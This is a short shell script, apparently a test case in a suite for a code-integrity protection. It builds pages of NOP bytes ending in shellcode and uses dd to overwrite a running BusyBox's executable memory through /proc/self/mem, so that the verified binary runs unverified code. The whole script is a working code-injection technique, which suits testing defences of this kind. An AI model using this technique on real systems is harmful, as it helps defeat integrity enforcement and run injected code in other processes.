# shellcheck shell=sh
#
# proc-mem - let a verified BusyBox write over its own code through /proc/self/mem
#
# dd writes pages of NOPs that end in code over its program, from the start; the code runs as soon as
# the page is written into which the system call returns. SPDX-License-Identifier: MIT

# mov eax, SYS_exit_group; xor edi, edi; syscall
exit='\270\347\0\0\0\061\377\017\005'
# The code that leaves the mark, without its last byte, which is a ret.
/attack/mapexec code | head -c 17 >/tmp/code
# shellcheck disable=SC2059 # it is octal numbers
printf "$exit" >>/tmp/code
{
	head -c $((4096 - $(stat -c %s /tmp/code))) /dev/zero | tr '\0' '\220'
	cat /tmp/code
} >/tmp/pages
# More of them than the program has.
for _ in 1 2 3 4 5 6 7 8 9; do
	cat /tmp/pages /tmp/pages >/tmp/more
	mv /tmp/more /tmp/pages
done
# shellcheck disable=SC2046 # two numbers
set -- $(sed -n 's/^\([0-9a-f]*\)-\([0-9a-f]*\) r-xp .*busybox$/0x\1 0x\2/p' /proc/self/maps)
dd if=/tmp/pages of=/proc/self/mem bs=4096 seek=$(($1 / 4096)) count=$((($2 - $1) / 4096)) conv=notrunc
rm /tmp/pages
